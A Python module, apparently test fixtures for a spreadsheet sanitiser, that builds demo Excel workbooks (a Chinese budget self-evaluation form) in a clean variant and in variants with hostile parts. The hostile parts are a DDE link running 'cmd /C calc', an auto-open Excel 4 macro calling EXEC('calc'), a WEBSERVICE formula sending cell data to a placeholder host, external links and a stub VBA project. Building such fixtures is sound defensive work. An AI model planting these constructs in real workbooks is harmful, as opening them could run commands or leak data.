"""Workbooks as filers keep them: with what Excel puts beside the cells, and with what must not travel on.

kept()        comments, chart, table, names, validations, formats by condition, links, a calculation chain
dangerous()   the same with macros, a link to another workbook, DDE, an OLE link, a web query, and formulas of these
"""

import io
import zipfile

import xlsxwriter

SHEET = "自评表"
ROWS = (
    ("项目支出绩效自评表",),
    ("（2025年度）",),
    ("项目名称", "演示项目（演示数据）"),
    ("主管部门", "演示局", "实施单位", "演示中心"),
    ("项目资金（万元）", "", "年初预算数", "全年预算数", "全年执行数", "分值", "执行率", "得分"),
    ("", "年度资金总额", 100, 100, 90, 10, "90%", 9),
    ("一级指标", "二级指标", "三级指标", "年度指标值", "实际完成值", "分值", "得分", "偏差原因分析及改进措施"),
    ("产出指标", "数量指标", "培训次数", "＞=10次", "≥12次", 50, 50, ""),
    ("效益指标", "社会效益指标", "覆盖率", "≥90%", "80%", 30, 30, ""),
    ("满意度指标", "满意度指标", "群众满意度", "≥95%", "96%", 10, 10, ""),
    ("总分", "", "", "", "", 100, 99, ""),
)
FORMULAS = {"J7": ("SUM(G8:G10)", 90), "J8": ("G8/F8", 1), "J9": ("IF(G9>F9,1,0)", 0)}
FOREIGN = {
    "K7": ("[1]Sheet1!$B$4", 3),
    "K8": ("[2]!'!A0'", 1),
    "K9": ('WEBSERVICE("http://example.invalid/?q="&A1)', "x"),
    "K10": ('HYPERLINK("http://example.invalid/","打开")', "打开"),
    "K11": ('HYPERLINK("[完成情况.xlsx]Sheet1!A1","打开")', "打开"),
}


def _book(formulas):
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target, {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False})
    sheet = book.add_worksheet(SHEET)
    boxed = book.add_format({"border": 1, "text_wrap": True})
    for number, row in enumerate(ROWS):
        for column, value in enumerate(row):
            if value != "":
                sheet.write(number, column, value, boxed)
    sheet.merge_range("A1:H1", ROWS[0][0], boxed)
    for place, (formula, value) in formulas.items():
        sheet.write_formula(place, f"={formula}", None, value)
    sheet.write_comment("E8", "请核实", {"author": "审核"})
    sheet.write_url("J2", "http://example.invalid/依据", string="依据")
    sheet.write_url("J3", f"internal:'{SHEET}'!A1", string="到表头")
    sheet.data_validation("E8:E10", {"validate": "list", "source": ["12次", "80%"]})
    sheet.conditional_format("G8:G10", {"type": "cell", "criteria": ">", "value": 40, "format": boxed})
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": f"={SHEET}!$G$8:$G$10"})
    sheet.insert_chart("M8", chart)
    sheet.print_area("A1:H11")
    sheet.repeat_rows(0, 1)
    other = book.add_worksheet("台账" + "长" * 29)
    other.write_comment("A1", "底稿")
    other.add_table("A1:B3", {"columns": [{"header": "项"}, {"header": "数"}]})
    book.define_name("执行", f"={SHEET}!$E$6")
    book.close()
    return target.getvalue()


def _with(data, parts, edits):
    """The package with further parts and (name, before, after) edits."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name in source.namelist():
            content = source.read(name).decode("utf-8", "surrogateescape")
            for where, before, after in edits:
                if where == name:
                    assert before in content, before
                    content = content.replace(before, after, 1)
            package.writestr(name, content.encode("utf-8", "surrogateescape"))
        for name, content in parts.items():
            package.writestr(name, content)
    return target.getvalue()


_TYPES, _RELATIONS = "[Content_Types].xml", "xl/_rels/workbook.xml.rels"
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def _type(name, kind):
    return _TYPES, "</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'


def _relation(number, kind, target):
    one = f'<Relationship Id="rId9{number}" Type="{kind}" Target="{target}"/>'
    return _RELATIONS, "</Relationships>", f"{one}</Relationships>"


def _chained(data, cells):
    chain = "".join(f'<c r="{place}" i="1"/>' for place in cells)
    return _with(
        data,
        {"xl/calcChain.xml": f"<calcChain {_MAIN}>{chain}</calcChain>"},
        [
            _type("xl/calcChain.xml", f"{_SPREADSHEET}.calcChain+xml"),
            _relation(0, f"{_OFFICE}/calcChain", "calcChain.xml"),
        ],
    )


def kept():
    return _chained(_book(FORMULAS), FORMULAS)


def dangerous():
    data = _chained(_book(FORMULAS | FOREIGN), FORMULAS | FOREIGN)
    link = (
        f'<externalLink {_MAIN}><externalBook xmlns:r="{_OFFICE}" r:id="rId1"><sheetNames><sheetName val="Sheet1"/>'
        "</sheetNames></externalBook></externalLink>"
    )
    dde = (
        f'<externalLink {_MAIN}><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0"/>'
        "</ddeItems></ddeLink></externalLink>"
    )
    path = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{_OFFICE}/externalLinkPath" Target="file:///C:/secret.xlsx" TargetMode="External"/></Relationships>'
    )
    web = f'<connections {_MAIN}><connection id="1" name="网" type="4" refreshedVersion="1"><webPr url="http://example.invalid/q"/></connection></connections>'
    macros = (
        _TYPES,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    references = (
        "xl/workbook.xml",
        "</sheets>",
        (
            f'</sheets><externalReferences><externalReference xmlns:r="{_OFFICE}" r:id="rId91"/>'
            f'<externalReference xmlns:r="{_OFFICE}" r:id="rId92"/></externalReferences>'
        ),
    )
    return _with(
        data,
        {
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": path,
            "xl/externalLinks/externalLink2.xml": dde,
            "xl/connections.xml": web,
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0MACROS",
        },
        [
            macros,
            references,
            _type("xl/externalLinks/externalLink1.xml", f"{_SPREADSHEET}.externalLink+xml"),
            _type("xl/externalLinks/externalLink2.xml", f"{_SPREADSHEET}.externalLink+xml"),
            _type("xl/connections.xml", f"{_SPREADSHEET}.connections+xml"),
            _type("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
            _relation(1, f"{_OFFICE}/externalLink", "externalLinks/externalLink1.xml"),
            _relation(2, f"{_OFFICE}/externalLink", "externalLinks/externalLink2.xml"),
            _relation(3, f"{_OFFICE}/connections", "connections.xml"),
            _relation(
                4,
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "vbaProject.bin",
            ),
        ],
    )


def with_macro_sheet():
    """A sheet of Excel 4 macros, which run when the workbook is opened."""
    name = "xl/macrosheets/sheet1.xml"
    cells = '<sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f><v>0</v></c></row></sheetData>'
    macro = (
        f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" {_MAIN}>{cells}</xm:macrosheet>'
    )
    auto = '<definedName name="_xlnm.Auto_Open" hidden="1">宏表!$A$1</definedName></definedNames>'
    return _with(
        _book(FORMULAS),
        {name: macro},
        [
            _type(name, "application/vnd.ms-excel.macrosheet+xml"),
            _relation(
                5, "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml"
            ),
            (
                "xl/workbook.xml",
                "</sheets>",
                f'<sheet xmlns:r="{_OFFICE}" name="宏表" sheetId="77" r:id="rId95"/></sheets>',
            ),
            ("xl/workbook.xml", "</definedNames>", auto),
        ],
    )


__all__ = ["FOREIGN", "ROWS", "SHEET", "dangerous", "kept", "with_macro_sheet"]
